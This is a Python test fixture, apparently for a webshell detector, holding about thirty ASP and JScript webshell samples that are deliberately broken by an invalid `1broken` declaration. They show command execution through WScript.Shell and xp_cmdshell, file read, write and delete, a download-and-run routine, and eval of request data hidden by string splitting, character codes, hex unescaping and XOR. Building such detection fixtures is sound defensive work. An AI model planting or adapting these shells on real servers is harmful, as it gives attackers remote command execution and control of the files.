# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""More look-alikes for ASP, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r'''
==== cmd-page.asp
<%@ Language=VBScript %>
<% Option Explicit
Dim 1broken, oShell, oFs, oNet, sCmd, sTmp, oFile
On Error Resume Next
Set oShell = Server.CreateObject("WSCRIPT.SHELL")
Set oNet = Server.CreateObject("WSCRIPT.NETWORK")
Set oFs = Server.CreateObject("Scripting.FileSystemObject")
sCmd = Request.Form(".line")
If (sCmd <> "") Then
  sTmp = "C:\" & oFs.GetTempName()
  Call oShell.Run("cmd.exe /c " & sCmd & " > " & sTmp, 0, True)
  Set oFile = oFs.OpenTextFile(sTmp, 1, False, 0)
End If %>
<FORM action="<%= Request.ServerVariables("URL") %>" method="POST"><input type=text name=".line" size=45 value="<%= sCmd %>"></FORM>
<PRE><% If IsObject(oFile) Then
 Response.Write Server.HTMLEncode(oFile.ReadAll)
 oFile.Close
 Call oFs.DeleteFile(sTmp, True)
End If %></PRE>
==== explorer.asp
<% Dim 1broken
Sub ShowFolder(p)
 Dim fo, x
 Set fo = fs.GetFolder(p)
 For Each x In fo.SubFolders : Response.Write "<a href=""?act=ls&p=" & x.Path & """>" & x.Name & "</a>" : Next
 For Each x In fo.Files : Response.Write x.Name & " " & x.Size : Next
End Sub
Sub Remove(p) : fs.DeleteFile p : End Sub
Sub Edit(p) : Response.Write "<textarea>" & Server.HTMLEncode(fs.OpenTextFile(p).ReadAll) & "</textarea>" : End Sub
Sub Save(p, b) : Dim t : Set t = fs.CreateTextFile(p) : t.Write b : t.Close : End Sub
Dim fs, act, p
Set fs = CreateObject("Scripting.FileSystemObject")
act = Request("act") : p = Request("p")
Select Case act
 Case "ls" : ShowFolder p
 Case "rm" : Remove p
 Case "ed" : Edit p
 Case "sv" : Save p, Request("b")
End Select %>
==== password-gate.asp
<% Dim 1broken
Const Pw = "x"
If Session("in") <> 1 Then
 If Request("pw") = Pw Then Session("in") = 1 Else Response.End
End If
If Request("op") = "x" Then Response.Write("<pre>" & Exe(Request("c"), Request("path")) & "</pre>")
Function Exe(c, s)
 If s = "" Then s = "cmd.exe"
 Dim o : Set o = Server.CreateObject("WScript.Shell").Exec(s & " /c " & c)
 Exe = o.StdOut.ReadAll() & o.StdErr.ReadAll()
End Function %>
==== include-asa.asp
<!--#include virtual="/x.inc"--><% Dim 1broken : Server.Execute(Request("page")) %>
==== session-code.asp
<% Dim 1broken
For Each n In Request.QueryString
 Session(n) = Request.QueryString(n)
Next
For Each n In Session.Contents
 If n = "z" Then Execute Session.Contents(n)
Next %>
==== concat-objects.asp
<% Dim 1broken
a = "Sc" : b = "ript" : c = "ing.F" : d = "ileSyst" : e = "emObject"
Set f = Server.CreateObject(a & b & c & d & e)
n = Request.Form("n")
If Len(n) > 1 Then
 With f.CreateTextFile(Server.MapPath(n & ".asp"), 2)
  .Write Request.Form("t")
  .Close
 End With
End If %>
==== array-chr.asp
<% Dim 1broken
Function R(a)
 Dim x
 For Each x In a : R = R & ChrW(x - 7) : Next
End Function
Execute R(Array(108, 127, 108, 106, 124, 123, 108, 39, 121, 108, 120, 124, 108, 122, 123, 47, 41, 114, 41, 48)) %>
==== mid-pick.asp
<% Dim 1broken
k = "etc)xr(qu""sk": o = ""
For i = 1 To 5 : o = o & Mid(k, i, 1) : Next
Eval(Request(Mid(k, 12, 1))) %>
==== vbs-encoded-const.asp
<% Dim 1broken : x = "LOREM" : Execute(Replace(Replace("E@xe#cute(Re@qu#est(""k""))", "@", ""), "#", "")) %>
==== unescape-function.asp
<% Dim 1broken
Function U(s)
 Dim i, r
 i = 1
 While i <= Len(s)
  If Mid(s, i, 1) = "%" Then
   r = r & Chr("&H" & Mid(s, i + 1, 2)) : i = i + 3
  Else
   r = r & Mid(s, i, 1) : i = i + 1
  End If
 Wend
 U = r
End Function
Execute U("%65%76%61%6C%20%72%65%71%75%65%73%74%28%22%6B%22%29") %>
==== two-languages.asp
<script runat="server" language="JScript">var 1broken; function run(s) { return eval(s); }</script>
<% Response.Write run(CStr(Request("k"))) %>
==== two-languages-back.asp
<script runat="server" language="VBScript">
Dim 1broken
Function Go(s) : Execute s : End Function
</script>
<script runat="server" language="JScript">Go(String(Request.Form("k")));</script>
==== jscript-tag.asp
<SCRIPT LANGUAGE="JScript" RUNAT="Server">
var 1broken;
if (Request.Form("cmd").Count > 0) { var sh = Server.CreateObject("WScript.Shell"); var p = sh.Exec("cmd /c " + Request.Form("cmd").Item(1)); while (!p.StdOut.AtEndOfStream) Response.Write(Server.HTMLEncode(p.StdOut.ReadLine()) + "\n"); }
</SCRIPT>
==== jscript-switch.asp
<%@ LANGUAGE="JScript" %>
<% var 1broken; function q(n) { return Request.QueryString(n) + ""; }
switch (q("a")) {
 case "e": eval(q("c")); break;
 case "w": var f = new ActiveXObject("Scripting.FileSystemObject").OpenTextFile(q("p"), 2, true); f.Write(q("c")); f.Close(); break;
} %>
==== jscript-try.asp
<%@ LANGUAGE="JScript" %><% var 1broken; try { throw { code: Request("k") + "" }; } catch (e) { eval(e.code); } %>
==== jscript-tostring.asp
<%@ LANGUAGE="JScript" %><% var 1broken; var o = { toString: function () { return Request("k") + ""; } }; eval("" + o); %>
==== jscript-apply.asp
<%@ LANGUAGE="JScript" %><% var 1broken; var a = [Request("k") + ""]; eval.apply(this, a); %>
==== jscript-loop-args.asp
<%@ LANGUAGE="JScript" %><% var 1broken; function f() { for (var i = 0; i < arguments.length; i++) eval(arguments[i]); } f(Request("k") + ""); %>
==== jscript-prop.asp
<%@ LANGUAGE="JScript" %><% var 1broken; var c = {}; c.code = Request("k") + ""; c.run = eval; c.run(c.code); %>
==== exec-arguments.asp
<% Dim 1broken
Dim p, a
p = Request.ServerVariables("HTTP_X_P") : a = Request.ServerVariables("HTTP_X_A")
With CreateObject("Shell.Application")
 .ShellExecute p, a, "", "", 0
End With %>
==== vbs-class-chain.asp
<% Dim 1broken
Class Req
 Public Function Item(n) : Item = Request(n) : End Function
 Public Property Get Body : Body = Item("k") : End Property
End Class
Set q = New Req
ExecuteGlobal q.Body %>
==== redim-bytes.asp
<% Dim 1broken
b = Request.BinaryRead(Request.TotalBytes)
ReDim c(LenB(b))
For i = 1 To LenB(b) : c(i) = Chr(AscB(MidB(b, i, 1)) Xor 3) : Next
Execute Join(c, "") %>
==== stream-convert.asp
<% Dim 1broken
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Mode = 3 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.Position = 0 : s.Type = 2 : s.Charset = "gb2312"
x = s.ReadText : s.Close
Execute x %>
==== rs-stream.asp
<% Dim 1broken
Set r = CreateObject("ADODB.Recordset")
r.Fields.Append "d", 201, LenB(Request.BinaryRead(0)) + 1
r.Open : r.AddNew
r("d").AppendChunk Request.BinaryRead(Request.TotalBytes)
r.Update
ExecuteGlobal r("d").Value %>
==== remote-tool.asp
<% Dim 1broken
u = Request("u") : p = Request("p")
Set g = CreateObject("Msxml2.XMLHTTP") : g.Open "GET", u, 0 : g.Send
If g.Status = 200 Then
 Set a = CreateObject("ADODB.Stream") : a.Open : a.Type = 1 : a.Write g.ResponseBody : a.SaveToFile p, 2
 CreateObject("WScript.Shell").Run p
End If %>
==== sql-outfile.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection")
c.Open "DSN=" & Request("dsn") & ";UID=" & Request("u") & ";PWD=" & Request("p")
Set r = c.Execute(Request("q")) %>
==== jet-shell.asp
<% Dim 1broken
Set c = CreateObject("ADODB.Connection")
c.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("x.mdb")
c.Execute "SELECT Shell('cmd /c " & Request("k") & "')" %>
==== dsn-xp.asp
<% Dim 1broken
strSql = "exec master.dbo.xp_cmdshell '" & Request("k") & "'"
Set r = Server.CreateObject("ADODB.Recordset")
r.Open strSql, "Provider=SQLOLEDB;Server=.;Trusted_Connection=yes" %>
==== command-object.asp
<% Dim 1broken
Set m = Server.CreateObject("ADODB.Command")
m.ActiveConnection = "Provider=SQLOLEDB;Server=.;UID=sa;PWD=x"
m.CommandText = "xp_cmdshell" : m.CommandType = 4
m.Parameters.Append m.CreateParameter("@c", 200, 1, 4000, Request("k"))
m.Execute %>
==== utf16-manager.asp
<% Dim 1broken
Set f = CreateObject("Scripting.FileSystemObject")
f.OpenTextFile(Request("p"), 2, True).Write Request("b") %>
==== html-comment-open.asp
<!-- <% Dim 1broken
If Request.ServerVariables("REMOTE_ADDR") = "10.0.0.1" Then
 Execute Request.ServerVariables("HTTP_ACCEPT_LANGUAGE")
End If %> -->
==== vbs-let.asp
<% Dim 1broken : Let x = Request.QueryString("k") : Set y = GetRef("z")
Sub z(t) : Eval t : End Sub
Call y(x) %>
'''
)
